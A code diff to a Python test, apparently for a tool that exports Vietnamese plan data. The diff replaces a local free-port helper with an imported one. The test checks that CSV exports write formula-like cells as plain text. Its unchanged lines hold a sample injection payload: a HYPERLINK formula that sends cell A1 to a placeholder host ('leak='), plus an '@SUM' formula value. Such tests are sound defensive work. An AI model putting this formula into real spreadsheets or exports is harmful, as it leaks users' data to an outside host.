@@ -6,7 +6,6 @@ import csv
 import io
 import json
 import os
-import socket
 import subprocess
 import time
 import urllib.request
@@ -15,15 +14,10 @@ from pathlib import Path
 from composed_plans import Plan, national_193
 from pipeline import store
 from pipeline.web import serve
+from processes import free_port
 
 ROOT = Path(__file__).resolve().parents[2]
 EVIL = '=HYPERLINK("http://example.invalid/?leak="&A1,"Kế hoạch")'
-
-
-def _free_port() -> int:
-    with socket.socket() as s:
-        s.bind(("127.0.0.1", 0))
-        return s.getsockname()[1]
 
 
 def _get(url: str, timeout: float = 30) -> str:
@@ -46,7 +40,7 @@ def test_table_and_query_csv_write_formula_like_cells_as_text(tmp_path):
     p.target(80, "%", ">", "@SUM(1+1) tố giác được giải quyết", "Tỷ lệ tố giác được giải quyết đạt trên 80%.")
     p.write(db)
     db.close()
-    port = _free_port()
+    port = free_port()
     proc = subprocess.Popen(serve.command(db_path, port=port), cwd=tmp_path, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL, env={**os.environ, "PYTHONPATH": str(ROOT)})
     try:
